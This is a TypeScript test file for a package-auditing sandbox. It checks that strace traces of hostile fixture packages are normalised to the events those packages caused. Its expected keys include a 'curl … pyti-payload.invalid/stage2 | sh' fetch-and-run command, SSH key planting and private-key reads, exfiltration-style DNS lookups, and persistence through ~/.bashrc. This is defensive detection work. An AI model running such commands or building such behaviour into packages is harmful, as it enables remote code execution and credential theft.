/**
 * The trace-parity normaliser on real traces captured from bubblewrap audits of the hostile fixtures
 * (test/fixtures/traces: ssh-writer, curl-spawner and net-setup builds, import-side-effects' import,
 * pyti-sample's install): it keeps what the package did, drops the interpreter's and PyTI's own
 * events, gives the same keys for the same behaviour under another home alias, other pids and
 * times, and without the interpreter's start-up (a task forked from a warm interpreter) — and the
 * comparison fails, naming the events, when a child's events or the first ones of the traced process
 * are lost.
 */
import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { parseStrace, type Phase } from '@pyti/common';
import { describeMissing, missingEvents, packageEvents, PathNormaliser, type PackageEvents, type ParityPaths } from './package-events.js';

/** The guest paths the captured audits' reports stated. */
const PATHS: ParityPaths = {
  home: '/work/home', work: '/work', tmp: '/tmp',
  homeAliases: ['/home/alex', '/home/daniel', '/home/emma', '/home/james', '/home/lucas', '/home/maria', '/home/sam', '/home/sofia'],
};

const lines = (name: string): string[] =>
  gunzipSync(readFileSync(new URL(`../../fixtures/traces/${name}.strace.gz`, import.meta.url))).toString('latin1').split('\n').filter(Boolean);
const keysOf = (phase: Phase, text: string[]): PackageEvents => packageEvents(phase, parseStrace(text.join('\n') + '\n').events, PATHS);
const pidOf = (line: string): number => Number(/^(\d+)\s/.exec(line)?.[1]);

/** Keys that would be the interpreter's, PyTI's or chance's: none may be kept. */
const NOISE = [/\/usr\/lib\/python3/, /\/opt\/pyti\/tasks/, /__pycache__|\.pyc\b/, /\{work\}\/raw/, /\/home\/alex/, /\/work\/home/, /ld\.so|libc\.so/, /[a-z0-9_]{8}\.tmp/, /\.tmp-[a-z0-9_]{6}/, /INSTALLER|REQUESTED|direct_url/, /site-packages$/, /exec .*(?:pep517_inprocess|import_all|strace)/];
const expectNoNoise = (keys: PackageEvents): void => {
  for (const k of keys.keys()) for (const re of NOISE) if (re.test(k)) throw new Error(`noise kept: ${k} (${re})`);
};

describe('package-caused events of real bwrap traces', () => {
  it('ssh-writer build: the key planted and the private key read, under ~, beside the build\'s own files', () => {
    const keys = keysOf('build', lines('ssh-writer-build'));
    expect([...keys.keys()]).toEqual(expect.arrayContaining([
      'read {work}/scratch/build/src/setup.py', 'mkdir ~/.ssh', 'write ~/.ssh/authorized_keys', 'read ~/.ssh/id_rsa', 'probe ~/.pydistutils.cfg',
      'exec git rev-parse HEAD', 'write {work}/scratch/build/src/build/lib/ssh_writer/__init__.py', 'write {work}/data/wheel/ssh_writer-1.0-py3-none-any.whl',
    ]));
    // The interpreter's start-up (user site) is not the package's.
    expect(keys.has('probe ~/.local/lib/python3.11/site-packages')).toBe(false);
    expectNoNoise(keys);
  });

  it('curl-spawner build: the shell it spawned and the shell\'s search for curl, whatever PATH holds', () => {
    const keys = keysOf('build', lines('curl-spawner-build'));
    expect([...keys.keys()]).toEqual(expect.arrayContaining([
      'exec sh -c curl -fsS http://pyti-payload.invalid/stage2 | sh', 'probe $PATH/curl', 'exec sh',
    ]));
    expectNoNoise(keys);
  });

  it('net-setup build: its DNS questions and connects; the resolver by role, not address', () => {
    const keys = keysOf('build', lines('net-setup-build'));
    expect([...keys.keys()].filter((k) => /^(?:dns|connect|send|bind|listen) /.test(k)).sort()).toEqual([
      'connect inet 127.0.0.1:9/tcp', 'connect inet 198.51.100.7:443/udp', 'connect inet6 2001:db8::7:443/udp', 'connect inet6 ::1:9/tcp',
      'connect resolver', 'connect unix /var/run/nscd/socket', 'dns A pyti-exfil.invalid', 'dns AAAA pyti-exfil.invalid', 'send inet 127.0.0.1:9/udp',
    ]);
    expectNoNoise(keys);
  });

  it('import-side-effects import: exactly what importing it did (module loaded from its bytecode, script dropped and run, ~/.bashrc edited)', () => {
    const keys = keysOf('import', lines('import-side-effects-import'));
    expect([...keys.keys()]).toEqual([
      'read {work}/data/venv/lib/python3.11/site-packages/import_side_effects/__init__.py',
      'probe ~/.local', 'mkdir ~/.local/bin', 'write ~/.local/bin/pyti-updater', 'exec ~/.local/bin/pyti-updater', 'read ~/.local/bin/pyti-updater', 'write ~/.bashrc',
    ]);
  });

  it('pyti-sample install: the files put into the venv, not pip\'s bookkeeping, temporary files or bytecode', () => {
    const keys = keysOf('install', lines('pyti-sample-install'));
    const sp = '{work}/data/venv/lib/python3.11/site-packages';
    expect([...keys.keys()].sort()).toEqual([
      ...['pyti_helper-0.1.dist-info/METADATA', 'pyti_helper-0.1.dist-info/RECORD', 'pyti_helper-0.1.dist-info/WHEEL', 'pyti_helper-0.1.dist-info/top_level.txt', 'pyti_helper/__init__.py',
        'pyti_sample-1.0.dist-info/METADATA', 'pyti_sample-1.0.dist-info/RECORD', 'pyti_sample-1.0.dist-info/WHEEL', 'pyti_sample-1.0.dist-info/top_level.txt', 'pyti_sample/__init__.py'].map((f) => `write ${sp}/${f}`),
    ].sort());
  });
});

describe('the keys do not depend on what differs between backends', () => {
  it('another slot user\'s home alias, other pids and other times give the same keys', () => {
    const original = lines('import-side-effects-import');
    const moved = original.map((l) => l
      .replace(/^(\d+)(\s+)(\d+)\.(\d+)/, (_m, pid: string, sp: string, s: string, us: string) => `${Number(pid) + 1000}${sp}${Number(s) + 86400}.${us}`)
      .replace(/\/home\/alex\//g, '/home/sofia/')
      .replace(/child_tidptr=0x[0-9a-f]+\) = (\d+)/g, (_m, c: string) => `child_tidptr=0x0) = ${Number(c) + 1000}`));
    expect([...keysOf('import', moved).keys()]).toEqual([...keysOf('import', original).keys()]);
  });

  it('without the interpreter\'s start-up (a task forked from a warm interpreter) the package\'s events are all still there', () => {
    const original = lines('import-side-effects-import');
    // Everything before the package's module is opened: exec, dynamic loader, site, the stdlib and the driver's own imports.
    const first = original.findIndex((l) => /import_side_effects\/__pycache__\/__init__/.test(l) && /openat/.test(l));
    expect(first).toBeGreaterThan(100);
    const warm = original.slice(first);
    const reference = new Map<Phase, PackageEvents>([['import', keysOf('import', original)]]);
    expect(missingEvents(reference, new Map([['import', keysOf('import', warm)]]), ['import'])).toEqual([]);
  });

  it('the same wheels installed by PyPA installer (direct writes, no bytecode, its own bookkeeping) give every key pip\'s install gave', () => {
    const sp = '/work/data/venv/lib/python3.11/site-packages';
    const files = ['pyti_helper/__init__.py', 'pyti_helper-0.1.dist-info/METADATA', 'pyti_helper-0.1.dist-info/WHEEL', 'pyti_helper-0.1.dist-info/top_level.txt', 'pyti_helper-0.1.dist-info/INSTALLER', 'pyti_helper-0.1.dist-info/RECORD',
      'pyti_sample/__init__.py', 'pyti_sample-1.0.dist-info/METADATA', 'pyti_sample-1.0.dist-info/WHEEL', 'pyti_sample-1.0.dist-info/top_level.txt', 'pyti_sample-1.0.dist-info/INSTALLER', 'pyti_sample-1.0.dist-info/RECORD'];
    let t = 1796668166.5;
    const at = (): string => (t += 0.0001).toFixed(6);
    const installer = [
      `7     ${at()} execve("/work/data/venv/bin/python", ["/work/data/venv/bin/python", "-m", "installer", "--destdir", "/", "/work/data/wheel/pyti_sample-1.0-py3-none-any.whl"], 0x7ffd /* 20 vars */) = 0`,
      ...files.flatMap((f) => [
        `7     ${at()} mkdir("${sp}/${f.split('/')[0]}", 0777) = 0`,
        `7     ${at()} openat(AT_FDCWD</work/scratch/install>, "${sp}/${f}", O_WRONLY|O_CREAT|O_EXCL|O_CLOEXEC, 0666) = 3<${sp}/${f}>`,
      ]),
      `7     ${at()} +++ exited with 0 +++`,
    ];
    const pip = new Map<Phase, PackageEvents>([['install', keysOf('install', lines('pyti-sample-install'))]]);
    expect(missingEvents(pip, new Map([['install', keysOf('install', installer)]]), ['install'])).toEqual([]);
    // …and an installer that skipped a module would be caught.
    const skipped = installer.filter((l) => !/pyti_helper\/__init__\.py/.test(l));
    expect(missingEvents(pip, new Map([['install', keysOf('install', skipped)]]), ['install']).map((m) => m.key)).toEqual([`write {work}/data/venv/lib/python3.11/site-packages/pyti_helper/__init__.py`]);
  });

  it('paths: homes and aliases become ~, the work and tmp directories are named, random names are starred, /proc pids hidden', () => {
    const n = new PathNormaliser(PATHS);
    expect(n.path('/home/daniel/.aws/credentials')).toBe('~/.aws/credentials');
    expect(n.path('/work/home/.bashrc')).toBe('~/.bashrc');
    expect(n.path('/home/alexander/x')).toBe('/home/alexander/x');
    expect(n.path('/work/data/wheel/.tmp-n045s2sw/a.whl')).toBe('{work}/data/wheel/.tmp-*/a.whl');
    expect(n.path('/tmp/tmpk3j_9xq2/setup.py')).toBe('{tmp}/tmp*/setup.py');
    expect(n.path('/tmp/pip-unpack-2137fyfw')).toBe('{tmp}/pip-unpack-*');
    expect(n.path('/work/x/RECORDjbccwvvf.tmp')).toBe('{work}/x/RECORD*.tmp');
    expect(n.path('/tmp/ccNfSvk8.s')).toBe('{tmp}/*.s');
    expect(n.path('/tmp/ccBBhisP.res')).toBe('{tmp}/*.res');
    // gcc's six random characters are sometimes all lowercase (a CI run's cext-pkg build once drew one).
    expect(n.path('/tmp/ccqmxwza.res')).toBe('{tmp}/*.res');
    expect(n.path('/tmp/cctfssgp.cdtor.o')).toBe('{tmp}/*.cdtor.o'); // the linker's, seen in a CI run
    expect(n.path('/tmp/ccA1b2C3.cdtor.o')).toBe('{tmp}/*.cdtor.o');
    expect(n.arg('-plugin-opt=-fresolution=/tmp/ccabcdef.res')).toBe('-plugin-opt=-fresolution={tmp}/*.res');
    expect(n.path('/tmp/payload.sh')).toBe('{tmp}/payload.sh');
    expect(n.arg('-plugin-opt=-fresolution=/tmp/ccBBhisP.res')).toBe('-plugin-opt=-fresolution={tmp}/*.res');
    expect(n.arg('/home/emma/.local/bin/x')).toBe('~/.local/bin/x');
    expect(n.arg('-c')).toBe('-c');
    expect(n.path('/proc/4711/environ')).toBe('/proc/<pid>/environ');
    expect(n.path('/work/scratch/build/src/__init__.py')).toBe('{work}/scratch/build/src/__init__.py');
  });
});

describe('the comparison fails, naming what is missing, when events are lost', () => {
  const reference = (phase: Phase, name: string): Map<Phase, PackageEvents> => new Map([[phase, keysOf(phase, lines(name))]]);

  it('a child process\'s events lost (import-side-effects: the dropped script it ran)', () => {
    const original = lines('import-side-effects-import');
    const root = pidOf(original[0]!);
    const childPid = original.map(pidOf).find((p) => p !== root)!;
    const lost = original.filter((l) => pidOf(l) !== childPid);
    const missing = missingEvents(reference('import', 'import-side-effects-import'), new Map([['import', keysOf('import', lost)]]), ['import']);
    expect(missing.map((m) => m.key)).toEqual(['exec ~/.local/bin/pyti-updater', 'read ~/.local/bin/pyti-updater']);
    const text = describeMissing('qemu', 'bwrap', missing);
    expect(text).toMatch(/qemu traces lack 2 package-caused event\(s\) that bwrap's have/);
    expect(text).toMatch(/\[import\] read ~\/\.local\/bin\/pyti-updater {3}\(bwrap: import\.strace:\d+, pid \d+\)/);
  });

  it('a spawned shell\'s events lost (curl-spawner build: the search for curl)', () => {
    const original = lines('curl-spawner-build');
    const root = pidOf(original[0]!);
    const children = new Set(original.map(pidOf).filter((p) => p !== root));
    const lost = original.filter((l) => !children.has(pidOf(l)));
    const missing = missingEvents(reference('build', 'curl-spawner-build'), new Map([['build', keysOf('build', lost)]]), ['build']).map((m) => m.key);
    expect(missing).toEqual(expect.arrayContaining(['exec sh -c curl -fsS http://pyti-payload.invalid/stage2 | sh', 'probe $PATH/curl', 'exec sh', 'exec git rev-parse HEAD']));
  });

  it('the first instructions of the traced process lost (strace attached late: the import\'s side effects)', () => {
    const original = lines('import-side-effects-import');
    const bashrc = original.findIndex((l) => /\.bashrc/.test(l));
    const lateAttach = original.slice(bashrc - 5);
    const missing = missingEvents(reference('import', 'import-side-effects-import'), new Map([['import', keysOf('import', lateAttach)]]), ['import']).map((m) => m.key);
    expect(missing).toEqual(expect.arrayContaining(['mkdir ~/.local/bin', 'write ~/.local/bin/pyti-updater', 'exec ~/.local/bin/pyti-updater']));
    expect(missing).not.toContain('write ~/.bashrc');
  });

  it('a whole phase trace lost, and one network event lost', () => {
    const ref = reference('build', 'net-setup-build');
    expect(missingEvents(ref, new Map(), ['build']).length).toBe(ref.get('build')!.size);
    const original = lines('net-setup-build');
    const lost = original.filter((l) => !/connect\(\d+<[^>]*>, \{sa_family=AF_INET6, sin6_port=htons\(9\)/.test(l));
    expect(missingEvents(ref, new Map([['build', keysOf('build', lost)]]), ['build']).map((m) => m.key)).toEqual(['connect inet6 ::1:9/tcp']);
  });
});
